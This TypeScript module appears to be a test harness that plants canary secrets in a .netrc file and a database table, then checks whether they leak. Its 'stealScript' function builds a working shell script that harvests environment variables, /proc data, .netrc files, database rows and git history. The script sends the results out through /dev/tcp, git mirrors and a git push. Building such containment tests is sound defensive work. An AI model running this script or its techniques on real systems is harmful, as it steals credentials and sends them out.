import assert from 'node:assert/strict'
import { readdir, readFile, writeFile } from 'node:fs/promises'
import { createServer, type Server } from 'node:net'
import path from 'node:path'
import { disguises } from './disguises.ts'
import type { MooseHome } from './moose-home.ts'

/** By where the operator keeps it. */
export const CANARIES = {
  environment: 'canary-env-5e1d8a40c2',
  home: 'canary-home-90b7c4e1f6',
  database: 'canary-db-3fa2d06b71',
}
/** Printed in the place of loot by a thief who has found none, in base64: it has run. */
export const NOTHING = Buffer.from('nothing').toString('base64')

/** Takes connections and keeps what it is sent: the internet, to who has a network. */
export type Listener = AsyncDisposable & { port: number; received: () => string }

/** Where something can be read, with what stands there. */
export type Place = readonly [string, string]

/** @returns for each canary the places that hold it, in any disguise */
export function placesOf(
  canaries: Readonly<Record<string, string>>,
  places: readonly Place[],
): Record<string, string[]> {
  const found = Object.entries(canaries).map(([name, canary]) => {
    const looks = disguises(canary)
    const holds = (content: string) => looks.some((look) => content.toLowerCase().includes(look))
    return [name, places.filter(([, content]) => holds(content)).map(([place]) => place)] as const
  })
  return Object.fromEntries(found)
}

/** Puts the canaries of home and database where an operator keeps such things. */
export async function hideCanaries({ user, home }: { user: string; home: MooseHome }): Promise<void> {
  await writeFile(path.join(user, '.netrc'), `machine example.org password ${CANARIES.home}\n`)
  await home.database.pool.query('create table operator_notes (note text)')
  await home.database.pool.query('insert into operator_notes values ($1)', [CANARIES.database])
}

export type Targets = { user: string; mirrors: string; port: number; url: string; remote: string }

/**
 * A script that knows where everything is, and tries every way in and out. In the tree it writes to `notes.md` alone. What it
 * looks for must not match itself: that stands in the arguments of its `grep`.
 */
export function stealScript({ user, mirrors, port, url, remote }: Targets): string {
  return `
unset GIT_CONFIG_COUNT GIT_CONFIG_GLOBAL GIT_CONFIG_NOSYSTEM
mark='canary-[a-z]+-[0-9a-f]+|ghp_canary[0-9a-z]+|sk-the-[r]eal-key-of-the-operator'
loot=$({
  env
  for one in /proc/[0-9]*; do cat "$one/environ" "$one/cmdline" "$one/root${user}/.netrc"; done | tr '\\0' '\\n'
  cat '${user}/.netrc' ~/.netrc ../../../../user/.netrc
  psql '${url}' -Atc 'select note from operator_notes'
  git config --list --show-origin; git log --all --format=%B
} 2>/dev/null | grep -aoE "$mark" | sort -u | tr '\\n' _)
[ -n "$loot" ] || loot=nothing
printf '%s\\n' "$loot"
printf '%s' "$loot" | base64 -w0; echo
printf '%s' "$loot" | rev; echo
printf '%s' "$loot" | od -An -v -tx1 | tr -d ' \\n'; echo
printf '%s' "$loot" >>notes.md
timeout 5 bash -c "exec 3<>/dev/tcp/127.0.0.1/${port} && printf 'GET /%s\\n' '$loot' >&3" || true
for mirror in '${mirrors}'/*/; do
  printf '%s' "$loot" >"$mirror/loot" || true
  git --git-dir "$mirror" update-ref "refs/heads/loot-$loot" HEAD || true
done
rm -rf "$TMPDIR/copy"; cp -R . "$TMPDIR/copy"; cd "$TMPDIR/copy"
git -c user.name="$loot" -c user.email=a@b.example commit -qam "$loot" || true
git push -q '${remote}' "HEAD:refs/heads/loot-$loot" || true
exit 0
`
}

/** All rows but the operator's own, all files of the home, and all that is in the remote. */
export async function everywhere({ config, database, remote }: MooseHome): Promise<Place[]> {
  const tables = await database.pool.query<{ name: string }>(
    `select format('%I.%I', table_schema, table_name) as name from information_schema.tables
     where table_schema in ('public', 'dbos') and table_type = 'BASE TABLE' and table_name <> 'operator_notes'`,
  )
  const found: Place[] = []
  for (const { name } of tables.rows) {
    const { rows } = await database.pool.query<{ content: string }>(`select one::text as content from ${name} one`)
    found.push([name, rows.map(({ content }) => content).join('\n')])
  }
  for (const root of [config.home, remote.path]) {
    const entries = await readdir(root, { recursive: true, withFileTypes: true })
    for (const entry of entries.filter((one) => one.isFile())) {
      const file = path.join(entry.parentPath, entry.name)
      found.push([file, `${file}\n${await readFile(file, 'latin1')}`])
    }
  }
  found.push(['commits', await remote.git('log', '--all', '--patch', '--format=fuller')])
  return found
}

export async function listen(): Promise<Listener> {
  let received = ''
  const server: Server = createServer((socket) => {
    socket.on('error', () => undefined)
    socket.on('data', (piece) => (received += String(piece)))
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  assert.ok(address !== null && typeof address === 'object')
  return {
    port: address.port,
    received: () => received,
    [Symbol.asyncDispose]: () => new Promise((resolve) => server.close(() => resolve())),
  }
}
